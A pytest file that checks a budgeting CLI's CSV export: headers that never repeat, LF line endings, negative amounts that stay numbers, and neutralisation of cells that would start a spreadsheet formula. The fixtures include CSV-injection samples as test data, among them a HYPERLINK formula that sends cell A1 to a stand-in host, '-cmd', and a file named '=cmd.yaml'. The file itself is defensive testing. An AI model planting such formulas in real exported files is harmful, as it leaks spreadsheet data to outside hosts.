"""CSV as spreadsheets and scripts read it: Python's csv module and pandas (``dtype=str``,
so that nothing is converted) see a header that never repeats, cells that no spreadsheet
runs as a formula (OWASP's CSV injection advice), negative amounts that stay numbers, and
the documented LF line endings."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mss_runway.cli import app

pandas = pytest.importorskip("pandas")
runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def scenario(name: str, opening: int = 100) -> str:
    # costs 40 a month: closes opening-40, opening-80, ... (opening 100: 60, 20, -20)
    quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    quoted = quoted.replace("\r", "\\r")
    return (
        f'name: "{quoted}"\nstart: 2025-01\ntarget: 2025-03\n'
        f"opening_balance: {opening}\ncosts: [{{label: Ops, monthly: 40}}]\n"
    )


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    for sub in ("a", "b"):
        (tmp_path / sub).mkdir()
    files = {
        "a/plan.yaml": scenario("Plan"),
        "b/plan.yaml": scenario("Plan", 200),
        "other.yaml": scenario("Plan", 300),
        "month.yaml": scenario("month"),
        "what_if.yaml": scenario("what_if"),
        "link.yaml": scenario(HYPERLINK),
        "plus.yaml": scenario("+1 (555) 0100"),
        "minus.yaml": scenario("-cmd"),
        "at.yaml": scenario("@SUM(1+1)"),
        "tab.yaml": scenario("\t=1+1"),
        "cr.yaml": scenario("\r=1+1"),
        "number.yaml": scenario("-5"),
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    return tmp_path


def run(*args: str) -> str:
    result = runner.invoke(app, [*args, "-o", "out.csv"])
    assert result.exit_code == 0, result.output
    return Path("out.csv").read_bytes().decode("utf-8")


def test_monthly_header_never_repeats(folder: Path) -> None:
    text = run(
        "compare", "a/plan.yaml", "b/plan.yaml", "other.yaml", "month.yaml", "what_if.yaml",
        "--monthly", "--format", "csv", "--count", "pledged",
    )  # fmt: skip
    header = next(csv.reader(io.StringIO(text)))
    assert header == [
        "month",
        "Plan (a/plan.yaml)",
        "Plan (b/plan.yaml)",
        "Plan (other.yaml)",
        "month (month.yaml)",
        "what_if (what_if.yaml)",
        "what_if",
    ]
    frame = pandas.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(frame.columns) == header  # pandas renames a repeated column: it did not
    # opening 100, 200, 300 less 40 a month: 2025-03 closes at -20, 80, 180
    assert frame.loc[2, "month"] == "2025-03"
    assert list(frame.loc[2, header[1:4]]) == ["-20.00", "80.00", "180.00"]


def test_a_label_heads_the_column(folder: Path) -> None:
    Path("labelled.yaml").write_text(scenario("A long name") + "label: Short\n", encoding="utf-8")
    text = run("compare", "labelled.yaml", "a/plan.yaml", "--monthly", "--format", "csv")
    assert text.splitlines()[0] == "month,Short,Plan,what_if"


FORMULAS = {
    "link.yaml": "'" + HYPERLINK,
    "plus.yaml": "'+1 (555) 0100",
    "minus.yaml": "'-cmd",
    "at.yaml": "'@SUM(1+1)",
    "tab.yaml": "'\t=1+1",
    "cr.yaml": "'\n=1+1",  # a CR is written as LF, so the cell is quoted
    "number.yaml": "-5",  # a plain number is not a formula: left as it is
}


def test_cells_that_would_start_a_formula_are_neutralised(folder: Path) -> None:
    """OWASP: a cell starting with =, +, -, @, tab or CR gets a leading '; the name column
    of compare, and the headers of compare --monthly."""
    files = list(FORMULAS)
    text = run("compare", *files, "--format", "csv", "--count", "pledged")
    frame = pandas.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert dict(zip(frame["file"], frame["name"], strict=True)) == FORMULAS
    monthly = run("compare", *files, "--monthly", "--format", "csv")
    header = next(csv.reader(io.StringIO(monthly)))
    # a heading is one line: "\t=1+1" and "\r=1+1" both head as "=1+1", told apart by file
    assert header == [
        "month",
        "'" + HYPERLINK,
        "'+1 (555) 0100",
        "'-cmd",
        "'@SUM(1+1)",
        "'=1+1 (tab.yaml)",
        "'=1+1 (cr.yaml)",
        "-5",
        "what_if",
    ]
    rows = list(csv.reader(io.StringIO(monthly)))
    assert rows[3][1:3] == ["-20.00", "-20.00"]  # negative amounts stay numbers


def test_a_file_that_starts_like_a_formula_is_neutralised(folder: Path) -> None:
    Path("=cmd.yaml").write_text(scenario("Plan"), encoding="utf-8")
    text = run("compare", "=cmd.yaml", "a/plan.yaml", "--format", "csv")
    frame = pandas.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(frame["file"]) == ["'=cmd.yaml", "a/plan.yaml"]


def test_lines_end_with_lf(folder: Path) -> None:
    """docs/output.md: LF line endings; a CR in a cell is written as a quoted LF, never a
    row break."""
    text = run("compare", "cr.yaml", "a/plan.yaml", "--format", "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 3  # header and two scenarios
    assert text.endswith("\n")
    assert "\r" not in text
    assert rows[1][0] == "'\n=1+1"
